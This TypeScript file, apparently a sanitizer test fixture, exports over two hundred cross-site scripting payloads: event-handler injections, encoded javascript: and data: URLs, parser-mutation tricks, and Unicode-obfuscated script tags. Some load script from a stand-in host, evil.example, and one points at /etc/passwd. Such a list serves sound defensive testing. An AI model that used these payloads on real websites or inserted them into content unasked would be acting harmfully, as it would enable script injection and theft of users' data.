/** More than two hundred texts that would run a script, load something or change the page if any part of it took them for more than text. */

const act = "window.__xss=1";
const outside = "https://evil.example/x";

const handlers = "onload onerror onclick onmouseover onfocus onanimationstart ontoggle onpointerenter onbegin onwheel"
  .split(" ")
  .flatMap((on) => [
    `<img src=x ${on}=${act}>`,
    `<svg ${on}=${act}>`,
    `<body ${on}="${act}">`,
    `<details open ${on}='${act}'>x</details>`,
    `"${on}=${act} autofocus tabindex=1 x="`,
    `<input autofocus ${on.toUpperCase()}=${act}>`,
  ]);

const scripts = [
  "script",
  "ScRiPt",
  "script\t",
  "script/x",
  "svg><script",
  "math><script",
  "scr\0ipt",
  "noscript><script",
].flatMap((tag) => [`<${tag}>${act}</script>`, `<${tag} src=${outside}></script>`, `</p><${tag}>${act}//`]);

const schemes = [
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  `java\tscript:${act}`,
  `\u0001javascript:${act}`,
  `javascript&#58;${act}`,
  `javascript&colon;${act}`,
  `&#106;avascript:${act}`,
  `&#x6A;avascript:${act}`,
  `javascript:${act}//https://good.example`,
  `vbscript:${act}`,
  `data:text/html,<script>${act}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${act}>`,
  `blob:${outside}`,
  `file:///etc/passwd`,
  `//evil.example/x`,
  `javascript%3A${act}`,
].flatMap((target) => [
  `[click](${target})`,
  `[click](<${target}> "t")`,
  `![pic](${target})`,
  `<a href="${target}">x</a>`,
  `<iframe src="${target}"></iframe>`,
  `[ref]: ${target}\n\n[ref]`,
]);

const loads = [
  `![x](${outside}.png)`,
  `<img src="${outside}.png">`,
  `<img srcset="${outside}.png 1x">`,
  `<link rel=stylesheet href="${outside}.css">`,
  `<link rel=preload as=image href="${outside}">`,
  `<style>@import "${outside}.css";*{background:url(${outside})}</style>`,
  `<div style="background:url(${outside})">x</div>`,
  `<meta http-equiv=refresh content="0;url=${outside}">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<base href="${outside}/">`,
  `<object data="${outside}"></object>`,
  `<embed src="${outside}">`,
  `<video src="${outside}" autoplay><source src="${outside}"></video>`,
  `<audio src="${outside}" autoplay></audio>`,
  `<form action="${outside}"><button>x</button></form>`,
  `<button formaction="javascript:${act}">x</button>`,
  `<svg><image href="${outside}.png"/><use href="${outside}#a"/></svg>`,
  `<iframe srcdoc="<script>parent.${act.slice(7)}</script>"></iframe>`,
  `<template><script>${act}</script></template>`,
  `<portal src="${outside}"></portal>`,
];

const markdown = [
  `\`<script>${act}</script>\``,
  `\`\`\`html\n<script>${act}</script>\n\`\`\``,
  `\`\`\`"><script>${act}</script>\nx\n\`\`\``,
  `~~~js onclick=${act}\nx\n~~~`,
  `| <script>${act}</script> | [x](javascript:${act}) |\n|:-:|--|\n| <img src=x onerror=${act}> | b |`,
  `# <svg onload=${act}>`,
  `> <img src=x onerror=${act}>\n> > <script>${act}</script>`,
  `- [x] <img src=x onerror=${act}>\n- [ ] <b onclick=${act}>`,
  `<javascript:${act}>`,
  `<https://evil.example/"onmouseover="${act}>`,
  `https://evil.example/"onmouseover="${act}`,
  `www.evil.example/<script>${act}</script>`,
  `mailto:x@y.z?subject=<script>${act}</script>`,
  `[a](https://ok.example "\\" onmouseover=${act} x=\\"")`,
  `[<img src=x onerror=${act}>](https://ok.example)`,
  `[![x](x" onerror="${act})](javascript:${act})`,
  `![" onerror="${act}](x)`,
  `&lt;script&gt;${act}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${act}&amp;gt;`,
  `\\<script>${act}\\</script>`,
  `<!--><script>${act}</script>-->`,
  `<!-- --!><img src=x onerror=${act}>`,
  `<![CDATA[><script>${act}</script>]]>`,
  `<?xml version="1.0"?><script>${act}</script>`,
  `<!DOCTYPE x [<!ENTITY y "z">]><script>${act}</script>`,
  `**<b onclick=${act}>**bold**</b>`,
  `*a<img src=x onerror=${act}>*`,
  `~~<svg/onload=${act}>~~`,
];

const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${act}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${act} src>">`,
  `<math href="javascript:${act}">x</math>`,
  `<svg><animate attributeName=href values=javascript:${act} /><a><text>x</text></a></svg>`,
  `<svg><foreignObject><iframe onload=${act}></iframe></foreignObject></svg>`,
  `<select><iframe onload=${act}></select>`,
  `<xmp><p title="</xmp><img src=x onerror=${act}>">`,
  `<textarea></textarea><img src=x onerror=${act}>`,
  `<title></title><script>${act}</script>`,
  `<form id=x><input name=attributes><input name=innerHTML></form>`,
  `<a id=__proto__ name=constructor>x</a>`,
];

const strange = [
  `＜script＞${act}＜/script＞`,
  `<scrıpt>${act}</scrıpt>`,
  `\u202e<script>${act}</script>`,
  `<\u200bscript>${act}</script>`,
  `<img\u2028src=x\u2029onerror=${act}>`,
  `<img/src=x/onerror=${act}/>`,
  `<img\x0csrc=x\x0conerror=${act}>`,
  `\ufeff<script>${act}</script>`,
  `%3Cscript%3E${act}%3C/script%3E`,
  `\\u003cscript\\u003e${act}`,
  `+ADw-script+AD4-${act}`,
  `{{constructor.constructor('${act}')()}}`,
  `\${${act}}`,
  `<%= ${act} %>`,
  `';${act};//`,
  `</script><script>${act}</script>`,
  `"><img src=x onerror=${act}>`,
  `__proto__`,
  `constructor`,
];

export const xssStrings: readonly string[] = [
  ...handlers,
  ...scripts,
  ...schemes,
  ...loads,
  ...markdown,
  ...mutations,
  ...strange,
];
